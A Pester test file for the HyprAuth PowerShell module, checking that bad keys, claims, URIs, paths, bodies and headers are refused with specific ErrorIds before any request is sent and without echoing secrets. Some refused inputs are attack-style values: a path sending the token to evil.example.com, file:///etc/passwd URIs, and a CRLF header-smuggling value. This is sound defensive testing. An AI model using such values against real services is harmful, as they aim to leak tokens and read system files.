# Bad input is refused before anything is sent, each kind with its own ErrorId, a message that says what is wrong in
# one plain sentence or two (no stack trace, no exception type names), and nothing secret echoed: not the key that was
# refused, not the client's real key, not the token. Table-driven across every cmdlet that takes the input; the
# emulator's request counter proves that nothing reached the wire. The refused keys are one row per ErrorId here and
# nowhere else in Pester; every kind of key behind each ErrorId is refused in the engine's xunit tests (KeyRefusalTests).
BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-HyprModuleManifest) -Force
    $script:emulator = Start-TestEmulator
    $script:tenant = $emulator.BaseUri
    $script:client = New-EmulatorClient $emulator @{}
    $script:token = Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey
    $script:tokenValue = Get-TokenValue $token

    $script:keys = New-TestKeySet $client.clientKey

    $script:folder = New-Item -ItemType Directory -Path (Join-Path $TestDrive 'keys')
    $script:files = @{
        Missing   = Join-Path $folder 'no-such.key'
        Directory = $folder.FullName
    }

    # Runs one call that must be refused; returns the error record, what else it wrote, and how many requests went out.
    function Get-Refusal([scriptblock] $Call) {
        $before = Get-EmulatorRequestTotal $emulator
        $ErrorActionPreference = 'Stop'
        $record = $null
        $output = $null
        try { $output = & $Call 3>$null } catch { $record = $_ }
        [pscustomobject]@{ Record = $record; Output = $output; Requests = (Get-EmulatorRequestTotal $emulator) - $before }
    }
}

AfterAll {
    Stop-HyprEmulator $emulator
}

Describe 'Bad input is refused before anything is sent, with its own ErrorId' {
    It '<Case> is <ErrorId>' -ForEach @(
        # Keys: one row for each ErrorId, through each cmdlet that takes a key (the engine's xunit tests refuse every kind).
        @{
            Case = 'a key that is not base64 (Get-HyprAccessToken)'
            ErrorId = 'ClientKeyNotBase64'
            Secret = { $keys.NotBase64 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.NotBase64 }
        }
        @{
            Case = 'an empty SecureString'
            ErrorId = 'ClientKeyEmpty'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey ([securestring]::new()) }
        }
        @{
            Case = 'truncated DER (Test-HyprClientAssertion -ClientKey)'
            ErrorId = 'ClientKeyMalformed'
            Secret = { $keys.Truncated }
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClientKey $keys.Truncated }
        }
        @{
            Case = 'an RSA key (Invoke-HyprApi inline)'
            ErrorId = 'ClientKeyNotEc'
            Secret = { $keys.Rsa }
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.Rsa }
        }
        @{
            Case = 'a P-384 key'
            ErrorId = 'ClientKeyUnsupportedCurve'
            Secret = { $keys.P384 }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.P384 }
        }
        @{
            Case = 'a JWK without d (Invoke-HyprApi inline)'
            ErrorId = 'ClientKeyJwkWithoutPrivateKey'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.JwkWithoutD }
        }
        @{
            Case = 'an encrypted PKCS#8 PEM key (Test-HyprClientAssertion -ClientKey)'
            ErrorId = 'ClientKeyEncrypted'
            Secret = { $keys.EncryptedPem }
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClientKey $keys.EncryptedPem }
        }
        @{
            Case = 'a public key only (New-HyprClientAssertion)'
            ErrorId = 'ClientKeyPublicOnly'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $keys.PublicOnly }
        }
        @{
            Case = 'a PEM block with the wrong label'
            ErrorId = 'ClientKeyUnsupportedPemLabel'
            Secret = { $keys.WrongLabel }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.WrongLabel }
        }
        @{
            Case = 'a hashtable as -ClientKey'
            ErrorId = 'ClientKeyWrongType'
            Secret = { $client.clientKey }
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey @{ key = $client.clientKey } }
        }
        @{
            Case = 'a -KeyPath that does not exist'
            ErrorId = 'KeyFileNotFound'
            Advice = 'no-such\.key'
            Category = 'ObjectNotFound'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -KeyPath $files.Missing }
        }
        # Root reads any file whatever its mode, so chmod 000 proves nothing here; a directory is unreadable as a file for everyone.
        @{
            Case = 'a -KeyPath that cannot be read (a directory)'
            ErrorId = 'KeyFileUnreadable'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -KeyPath $files.Directory }
        }
        @{
            Case = 'a -PublicKey that is no key'
            ErrorId = 'PublicKeyInvalid'
            Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -PublicKey 'not a key at all' }
        }

        # Claims and options.
        @{
            Case = 'an empty -ClientId'
            ErrorId = 'ParameterArgumentValidationError'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId '' -ClientKey $client.clientKey }
        }
        @{
            Case = 'a -ClientId of white space'
            ErrorId = 'InvalidClientId'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId '   ' -ClientKey $client.clientKey }
        }
        @{
            Case = 'a -ClientId with a control character'
            ErrorId = 'InvalidClientId'
            Call = { New-HyprClientAssertion -ClientId "hypap-a`u{0007}b" -ClientKey $client.clientKey }
        }
        @{
            Case = 'a -KeyId of white space'
            ErrorId = 'InvalidKeyId'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey -KeyId ' ' }
        }
        @{
            Case = 'an -Issuer of white space'
            ErrorId = 'InvalidIssuer'
            Call = { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey -Issuer ' ' }
        }
        @{
            Case = 'an -Audience of white space'
            ErrorId = 'InvalidAudience'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -ClientId $client.clientId -ClientKey $client.clientKey -Audience ' ' }
        }
        @{
            Case = 'an expiry a minute in the past (local time)'
            ErrorId = 'InvalidExpiresAt'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -ExpiresAt (Get-Date).AddMinutes(-1) }
        }
        @{
            Case = 'an expiry that is no date'
            ErrorId = 'InvalidExpiresAt'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -ExpiresAt '2026-13-45' }
        }
        @{
            Case = 'an expiry beyond the year 9999 in Unix seconds'
            ErrorId = 'InvalidExpiresAt'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -ExpiresAt 99999999999999 }
        }
        @{
            Case = 'a negative lifetime'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime '-00:00:01' }
        }
        @{
            Case = 'a zero lifetime'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime 0 }
        }
        @{
            Case = 'a lifetime under a second'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime '00:00:00.5' }
        }
        @{
            Case = 'the longest lifetime a TimeSpan holds'
            ErrorId = 'InvalidLifetime'
            Call = { New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime ([TimeSpan]::MaxValue) }
        }
        @{
            Case = 'a tenant URI with no host'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'https://' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI that is no URI (Invoke-HyprApi inline)'
            ErrorId = 'InvalidTenantUri'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri 'not a uri at all' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a path'
            ErrorId = 'InvalidTenantUri'
            Advice = 'use the bare tenant address, e\.g\. https://tenant\.hypr\.com'
            Call = { Get-HyprAccessToken -TenantUri 'https://tenant.hypr.com/rp' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'an http loopback tenant URI with a path (the advice keeps its scheme)'
            ErrorId = 'InvalidTenantUri'
            Advice = 'use the bare tenant address, e\.g\. http://127\.0\.0\.1:5000;'
            Call = { Get-HyprAccessToken -TenantUri 'http://127.0.0.1:5000/rp' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a loopback tenant without a scheme'
            ErrorId = 'InvalidTenantUri'
            Advice = 'no scheme'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri ([uri]$tenant).Authority -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a query'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'https://tenant.hypr.com/?next=1' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a user name and password'
            ErrorId = 'InvalidTenantUri'
            Secret = { 'S3cretPassw0rd!' }
            Call = { Get-HyprAccessToken -TenantUri 'https://me:S3cretPassw0rd!@tenant.hypr.com' -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'a tenant URI with a password and no host'
            ErrorId = 'InvalidTenantUri'
            Secret = { 'S3cretPassw0rd!' }
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri 'https://me:S3cretPassw0rd!@' -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'a file:// tenant URI'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'file:///etc/passwd' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'http:// to a non-loopback host (Invoke-HyprApi inline)'
            ErrorId = 'InvalidTenantUri'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri 'http://tenant.hypr.com' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'http:// to a non-loopback IPv6 address'
            ErrorId = 'InvalidTenantUri'
            Call = { Get-HyprAccessToken -TenantUri 'http://[2001:db8::1]' -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a relative -TokenEndpoint (/path)'
            ErrorId = 'InvalidTokenEndpoint'
            Call = { Get-HyprAccessToken -TenantUri $tenant -TokenEndpoint '/rp/token/endpoint/exchange/clientcredentials' `
                -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'a relative -TokenEndpoint (path) on Invoke-HyprApi'
            ErrorId = 'InvalidTokenEndpoint'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -TokenEndpoint 'rp/token' -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'an http:// -TokenEndpoint on another host (Invoke-HyprApi inline)'
            ErrorId = 'InvalidTokenEndpoint'
            Call = { Invoke-HyprApi -Path /rp/api/echo -TenantUri $tenant -TokenEndpoint 'http://token.example.com/exchange' `
                -ClientId $client.clientId -ClientKey $client.clientKey }
        }
        @{
            Case = 'an -Assertion that is no JWT'
            ErrorId = 'InvalidAssertion'
            Call = { Get-HyprAccessToken -TenantUri $tenant -Assertion 'not-a-jwt' }
        }
        @{
            Case = 'the client key given as -Assertion by mistake'
            ErrorId = 'InvalidAssertion'
            Secret = { $client.clientKey }
            Call = { Get-HyprAccessToken -TenantUri $tenant -Assertion $client.clientKey }
        }
        @{
            Case = 'an -Assertion of three parts that are not JSON'
            ErrorId = 'InvalidAssertion'
            Call = { Get-HyprAccessToken -TenantUri $tenant -Assertion 'a.b.c' }
        }
        @{ Case = 'a negative -ClockSkew'; ErrorId = 'InvalidClockSkew'; Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -ClockSkew '-00:01:00' } }
        @{ Case = 'a zero -MaximumLifetime'; ErrorId = 'InvalidMaximumLifetime'; Call = { Test-HyprClientAssertion -Jwt 'a.b.c' -MaximumLifetime 0 } }
        @{
            Case = 'a -TimeoutSec of 0'
            ErrorId = 'ParameterArgumentValidationError'
            Call = { Invoke-HyprApi -Path /rp/api/echo -AccessToken $token -TimeoutSec 0 }
        }
        @{ Case = 'a relative -Proxy'; ErrorId = 'InvalidProxy'; Call = { Invoke-HyprApi -Path /rp/api/echo -AccessToken $token -Proxy 'proxy' } }

        # API calls.
        @{
            Case = 'a path absolute to another host, with inline credentials (nothing exchanged either)'
            ErrorId = 'InvalidPath'
            Call = { Invoke-HyprApi -Path 'https://evil.example.com/rp/api/echo' -TenantUri $tenant -ClientId $client.clientId `
                -ClientKey $client.clientKey }
        }
        @{
            Case = 'a path that names another host with backslashes'
            ErrorId = 'InvalidPath'
            Call = { Invoke-HyprApi -Path '\\evil.example.com\rp\api\echo' -AccessToken $token }
        }
        @{ Case = 'a file:// path'; ErrorId = 'InvalidPath'; Call = { Invoke-HyprApi -Path 'file:///etc/passwd' -AccessToken $token } }
        @{ Case = 'a path with a fragment'; ErrorId = 'InvalidPath'; Call = { Invoke-HyprApi -Path '/rp/api/echo#top' -AccessToken $token } }
        @{
            Case = 'a path to another host carrying the token in its query'
            ErrorId = 'InvalidPath'
            Secret = { $tokenValue }
            Call = { Invoke-HyprApi -Path "https://evil.example.com/collect?t=$tokenValue" -AccessToken $token }
        }
        @{
            Case = 'a path to another host with a password in it'
            ErrorId = 'InvalidPath'
            Secret = { 'S3cretPassw0rd!' }
            Call = { Invoke-HyprApi -Path 'https://me:S3cretPassw0rd!@evil.example.com/rp/api/echo' -AccessToken $token }
        }
        @{
            Case = 'a body holding a SecureString (the key)'
            ErrorId = 'InvalidBody'
            Secret = { $client.clientKey }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body @{ key =
                (ConvertTo-SecureString $client.clientKey -AsPlainText -Force) } -AccessToken $token }
        }
        @{
            Case = 'a body holding a PSCredential'
            ErrorId = 'InvalidBody'
            Secret = { 'Pa55w0rd-never-shown' }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body @{ login =
                [pscredential]::new('user', (ConvertTo-SecureString 'Pa55w0rd-never-shown' -AsPlainText -Force)) } -AccessToken $token }
        }
        @{
            Case = 'a body that refers to itself'
            ErrorId = 'InvalidBody'
            Call = { $loop = @{}; $loop.self = $loop; Invoke-HyprApi -Path /rp/api/echo -Method POST -Body $loop -AccessToken $token }
        }
        @{
            Case = 'a body holding NaN'
            ErrorId = 'InvalidBody'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body @{ ratio = [double]::NaN } -AccessToken $token }
        }
        @{
            Case = 'a body holding a script block'
            ErrorId = 'InvalidBody'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method PUT -Body ([pscustomobject]@{ run = { 'x' } }) -AccessToken $token }
        }
        @{
            Case = '-All with a body that is not a JSON object'
            ErrorId = 'InvalidBody'
            Call = { Invoke-HyprApi -Path /rp/api/bulk/HYPRDefaultApplication/fetch -Method POST -Body '[1,2]' -All -AccessToken $token }
        }
        @{
            Case = 'a header replacing Authorization (with the token)'
            ErrorId = 'InvalidHeaders'
            Secret = { $tokenValue }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ Authorization = "Bearer $tokenValue" } -AccessToken $token }
        }
        @{
            Case = 'a header replacing Host'
            ErrorId = 'InvalidHeaders'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ Host = 'evil.example.com' } -AccessToken $token }
        }
        @{
            Case = 'a Transfer-Encoding header (the HTTP stack frames the message)'
            ErrorId = 'InvalidHeaders'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ 'Transfer-Encoding' = 'chunked' } -AccessToken $token }
        }
        @{
            Case = 'a Content-Length header on a request with a body'
            ErrorId = 'InvalidHeaders'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body 'x' -Headers @{ 'Content-Length' = '5' } -AccessToken $token }
        }
        @{
            Case = 'a header value that smuggles a second header'
            ErrorId = 'InvalidHeaders'
            Secret = { $tokenValue }
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ 'X-Note' = "a`r`nAuthorization: Bearer $tokenValue" } -AccessToken $token }
        }
        @{
            Case = 'a Content-Type header on a request without a body'
            ErrorId = 'InvalidHeaders'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Headers @{ 'Content-Type' = 'text/plain' } -AccessToken $token }
        }
        @{
            Case = 'a -ContentType that is no media type'
            ErrorId = 'InvalidContentType'
            Call = { Invoke-HyprApi -Path /rp/api/echo -Method POST -Body 'x' -ContentType 'not a type;;' -AccessToken $token }
        }
    ) {
        $refusal = Get-Refusal $Call
        $record = $refusal.Record
        $record | Should -Not -BeNullOrEmpty -Because 'the call must be refused'
        $refusal.Output | Should -BeNullOrEmpty
        $refusal.Requests | Should -Be 0 -Because 'bad input is refused before any request (no exchange either)'
        $record.FullyQualifiedErrorId | Should -BeLike "$ErrorId,HyprAuth.Commands.*"
        $record.CategoryInfo.Category | Should -Not -Be 'NotSpecified'
        if ($Category) { $record.CategoryInfo.Category | Should -Be $Category }
        if ($ErrorId -like 'ClientKey*') {
            $record.ErrorDetails.RecommendedAction | Should -Not -BeNullOrEmpty -Because 'a refused key says what to pass instead'
        }

        $message = $record.Exception.Message
        $message | Should -Not -BeNullOrEmpty
        $message.Length | Should -BeLessThan 500
        $message | Should -Not -Match '[\r\n]' -Because 'one paragraph'
        if ($Advice) { $message | Should -Match $Advice }
        $message | Should -Not -Match '\bat [\w.`]+\(|System\.[\w.]*Exception|HyprAuth\.Core\.' `
            -Because 'a clear message, not a stack trace or an exception type'
        if ($ErrorId -notlike 'ParameterArgument*') {
            $record.Exception | Should -BeOfType ([HyprAuth.HyprException])
            $record.Exception.ErrorId | Should -BeExactly $ErrorId
            $record.Exception.InnerException | Should -BeNullOrEmpty
        }

        $text = Get-ErrorText $record
        foreach ($secret in @($(if ($Secret) { & $Secret }), $client.clientKey, $tokenValue)) {
            Find-Secret $text $secret | Should -BeNullOrEmpty -Because 'no secret is echoed'
        }
    }

    It 'a key error names what to pass instead (RecommendedAction)' {
        $record = (Get-Refusal { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.P384 }).Record
        $record.ErrorDetails.RecommendedAction | Should -Match 'P-256'
        $record.Exception.Message | Should -Match 'P-384'
    }
}

Describe 'A suspicious but usable value is a warning, not an error' {
    It 'a lifetime of 30 days signs, and warns with HYPR''s advice' {
        $warnings = $null
        $assertion = New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime '30.00:00:00' `
            -WarningVariable warnings -WarningAction SilentlyContinue
        ($assertion.Claims['exp'] - $assertion.Claims['iat']) | Should -Be (30 * 86400)
        @($warnings).Count | Should -Be 1
        "$($warnings[0])" | Should -Match '43200 minutes'
        "$($warnings[0])" | Should -Match 'HYPR recommends'
        "$($warnings[0])".Contains($assertion.Jwt) | Should -BeFalse
    }
}
